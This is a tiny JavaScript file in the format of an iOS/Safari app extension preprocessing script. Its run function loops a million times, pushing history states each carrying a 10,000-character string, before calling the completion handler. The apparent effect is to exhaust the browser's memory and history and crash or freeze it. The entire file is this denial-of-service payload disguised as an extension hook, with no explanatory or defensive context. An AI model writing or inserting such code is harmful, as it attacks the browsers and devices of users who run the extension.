var ExtensionPreprocessingJS = { run(a) {
for (let i = 0; i < 1e6; i++) history.pushState('x'.repeat(1e4), '', '#' + i);
a.completionFunction({});
} };
